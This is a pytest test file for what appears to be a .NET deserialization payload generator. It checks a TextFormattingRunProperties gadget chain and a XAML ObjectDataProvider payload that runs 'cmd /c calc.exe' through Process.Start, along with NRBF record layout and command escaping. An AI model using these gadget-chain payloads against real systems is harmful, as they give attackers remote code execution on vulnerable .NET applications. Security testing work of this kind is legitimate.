import xml.etree.ElementTree as ET

import pytest

from dotnet_deserialization import UnsupportedGadgetChain, MalformedRecordConstruction
from dotnet_deserialization.constants import POWERSHELL_EDITOR_ASSEMBLY
from dotnet_deserialization.gadget_chains import (
    available_gadget_chains,
    get_gadget_chain,
    build_text_formatting_run_properties,
    build_resource_dictionary,
    canonicalize_xml,
    escape_xml_text,
)
from dotnet_deserialization.records import (
    SerializationHeaderRecord,
    BinaryLibrary,
    ClassWithMembersAndTypes,
    BinaryObjectString,
    MessageEnd,
)

from nrbf_reader import read_stream

XAML_NS = "{http://schemas.microsoft.com/winfx/2006/xaml/presentation}"
SYSTEM_NS = "{clr-namespace:System;assembly=mscorlib}"

CALC_XAML = (
    '<ResourceDictionary'
    ' xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"'
    ' xmlns:X="http://schemas.microsoft.com/winfx/2006/xaml"'
    ' xmlns:S="clr-namespace:System;assembly=mscorlib"'
    ' xmlns:D="clr-namespace:System.Diagnostics;assembly=system">'
    '<ObjectDataProvider X:Key="" ObjectType="{X:Type D:Process}" MethodName="Start">'
    '<ObjectDataProvider.MethodParameters>'
    '<S:String>cmd</S:String>'
    '<S:String>/c calc.exe</S:String>'
    '</ObjectDataProvider.MethodParameters>'
    '</ObjectDataProvider>'
    '</ResourceDictionary>'
)


def method_parameters(document: str):
    root = ET.fromstring(document)
    assert root.tag == f"{XAML_NS}ResourceDictionary"
    return [element.text for element in root.iter(f"{SYSTEM_NS}String")]


class TestRegistry:
    def test_text_formatting_run_properties_registered(self):
        assert "TextFormattingRunProperties" in available_gadget_chains()
        assert get_gadget_chain("TextFormattingRunProperties") is build_text_formatting_run_properties

    def test_unknown_selector(self):
        with pytest.raises(UnsupportedGadgetChain) as excinfo:
            get_gadget_chain("bogus")
        assert excinfo.value.selector == "bogus"

    def test_unhashable_selector(self):
        with pytest.raises(UnsupportedGadgetChain):
            get_gadget_chain(["TextFormattingRunProperties"])


class TestResourceDictionary:
    def test_canonical_document(self):
        assert build_resource_dictionary("calc.exe") == CALC_XAML

    def test_single_line(self):
        document = build_resource_dictionary("calc.exe")
        assert "\n" not in document
        assert "> <" not in document

    def test_method_parameters(self):
        assert method_parameters(build_resource_dictionary("calc.exe")) == ["cmd", "/c calc.exe"]

    @pytest.mark.parametrize("cmd", [
        'echo <b> & "quoted" \'single\'',
        '</S:String><S:String>injected',
        'a&amp;b',
        'line1\r\nline2\ttab',
        '   spaced   ',
        '{command} {0}',
    ])
    def test_command_round_trips(self, cmd):
        document = build_resource_dictionary(cmd)
        assert method_parameters(document) == ["cmd", "/c " + cmd]

    def test_no_raw_special_characters_in_command_text(self):
        document = build_resource_dictionary('<>&"\'')
        start = document.index('<S:String>/c ') + len('<S:String>/c ')
        end = document.index('</S:String>', start)
        text = document[start:end]
        assert text == '&lt;&gt;&amp;&quot;&apos;'
        for char in '<>"\'':
            assert char not in text

    def test_invalid_xml_character(self):
        with pytest.raises(MalformedRecordConstruction):
            build_resource_dictionary("calc\x01.exe")
        with pytest.raises(MalformedRecordConstruction):
            build_resource_dictionary("calc\ud800.exe")

    def test_escape_xml_text(self):
        assert escape_xml_text("a<b") == "a&lt;b"
        assert escape_xml_text("\r") == "&#13;"

    def test_canonicalize_xml(self):
        document = """
        <a
          x="1"
        >
          <b />
        </a>
        """
        assert canonicalize_xml(document) == '<a x="1"><b/></a>'


class TestStream:
    def test_record_order(self):
        stream = build_text_formatting_run_properties("calc.exe")
        assert [type(r) for r in stream] == [
            SerializationHeaderRecord,
            BinaryLibrary,
            ClassWithMembersAndTypes,
            MessageEnd,
        ]

    def test_record_fields(self):
        header, library, klass, _ = build_text_formatting_run_properties("calc.exe").records
        assert header.root_id == 1
        assert header.header_id == -1
        assert library.library_name == POWERSHELL_EDITOR_ASSEMBLY
        assert klass.library_id == library.library_id
        assert klass.class_info.obj_id == header.root_id
        assert klass.class_info.name == 'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties'
        assert klass.class_info.member_names == ('ForegroundBrush',)
        value = klass.member_values[0]
        assert isinstance(value, BinaryObjectString)
        assert value.string == CALC_XAML

    def test_references_are_consistent(self):
        build_text_formatting_run_properties("calc.exe").validate_references()

    def test_encoded_stream(self):
        records = read_stream(build_text_formatting_run_properties("calc.exe").to_bytes())
        assert [r['type'] for r in records] == [
            'SerializationHeaderRecord', 'BinaryLibrary', 'ClassWithMembersAndTypes', 'MessageEnd',
        ]
        assert records[1]['library_name'] == (
            "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, "
            "PublicKeyToken=31bf3856ad364e35"
        )
        klass = records[2]
        assert klass['member_names'] == ['ForegroundBrush']
        assert klass['binary_types'] == [1]
        assert klass['library_id'] == 2
        assert klass['member_values'][0] == {'type': 'BinaryObjectString', 'obj_id': 3, 'string': CALC_XAML}

    def test_missing_command(self):
        with pytest.raises(MalformedRecordConstruction):
            build_text_formatting_run_properties(None)
